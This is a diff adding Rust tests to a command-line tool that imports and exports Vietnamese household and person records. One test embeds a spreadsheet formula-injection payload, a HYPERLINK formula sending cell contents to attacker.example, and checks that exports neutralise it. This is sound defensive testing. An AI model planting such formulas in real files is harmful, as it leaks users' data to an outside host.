@@ -367,3 +367,87 @@ fn a_config_file_sets_the_database_and_flags_override_it() {
     assert!(!o.status.success());
     assert!(text(&o).contains("cấu hình"), "{}", text(&o));
 }
+
+/// A persons file with one good row and one whose birth date does not exist.
+fn persons_with_a_bad_row(dir: &Path) -> std::path::PathBuf {
+    let persons = dir.join("nk.csv");
+    std::fs::write(
+        &persons,
+        "Họ và tên,Giới tính,Ngày sinh,Mã xã/phường\n\
+         Nguyễn Thị Ái Vân,Nữ,12/03/1985,19900\n\
+         Lê Văn Ba,Nam,31/02/1985,19900\n",
+    )
+    .unwrap();
+    persons
+}
+
+#[test]
+fn rejected_rows_are_written_in_the_format_their_file_name_says() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = sqlite(dir.path());
+    let persons = persons_with_a_bad_row(dir.path());
+    // A dry run of the persons file, its rejected rows to the file named.
+    let import = |name: &str| {
+        let rejected = dir.path().join(name);
+        let args = ["import", "persons", persons.to_str().unwrap(), "--dry-run"];
+        let o = ansinh(
+            &db,
+            &[&args[..], &["--rejected", rejected.to_str().unwrap()]].concat(),
+        );
+        (o, rejected)
+    };
+
+    let (o, xlsx) = import("loi.XLSX");
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
+    let bytes = std::fs::read(&xlsx).unwrap();
+    assert!(bytes.starts_with(b"PK"), "a CSV file under an .xlsx name");
+    let limits = ansinh_files::Limits::default();
+    let table = ansinh_files::read_table(&bytes, ansinh_files::Format::Xlsx, &limits).unwrap();
+    assert_eq!(table.headers.last().unwrap(), "Lỗi");
+    assert_eq!(table.rows.len(), 1);
+    assert_eq!(table.rows[0].cells[0], "Lê Văn Ba");
+
+    // And a .csv name gets CSV.
+    let (o, csv) = import("loi.csv");
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
+    let body = std::fs::read_to_string(&csv).unwrap();
+    assert!(body.contains("Lê Văn Ba,Nam,31/02/1985"), "{body}");
+
+    // A name of no known format is refused before the file is read, saying what to do.
+    let (o, txt) = import("loi.txt");
+    assert!(!o.status.success(), "{}", text(&o));
+    let out = text(&o);
+    assert!(
+        out.contains("loi.txt") && out.contains(".xlsx hoặc .csv"),
+        "{out}"
+    );
+    // Neither read (no row reported) nor written.
+    assert!(!out.contains("dòng 3") && !txt.exists(), "{out}");
+}
+
+#[test]
+fn a_formula_stored_as_an_address_is_exported_and_rejected_as_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = sqlite(dir.path());
+    let payload = r#"=HYPERLINK("http://attacker.example/?d="&A1,"Xem")"#;
+    let households = dir.path().join("ho.csv");
+    let quoted = payload.replace('"', "\"\"");
+    std::fs::write(
+        &households,
+        format!("Mã hộ,Mã xã/phường,Địa chỉ\nHO-1,19900,\"{quoted}\"\nHO-2,99999,\"{quoted}\"\n"),
+    )
+    .unwrap();
+    let file = households.to_str().unwrap();
+    let o = ansinh(&db, &["import", "households", file, "--skip-bad-rows"]);
+    assert!(o.status.success(), "{}", text(&o));
+    // The bad row (unknown commune) goes to the rejected CSV with its address neutralised.
+    let rejected = std::fs::read_to_string(dir.path().join("ho.loi.csv")).unwrap();
+    assert!(rejected.contains(&format!("\"'{quoted}\"")), "{rejected}");
+
+    let export = dir.path().join("x.csv");
+    let o = ansinh(&db, &["export", "households", export.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", text(&o));
+    let body = std::fs::read_to_string(&export).unwrap();
+    assert!(body.contains(&format!("\"'{quoted}\"")), "{body}");
+    assert!(!body.contains(&format!(",\"{quoted}\"")), "{body}");
+}
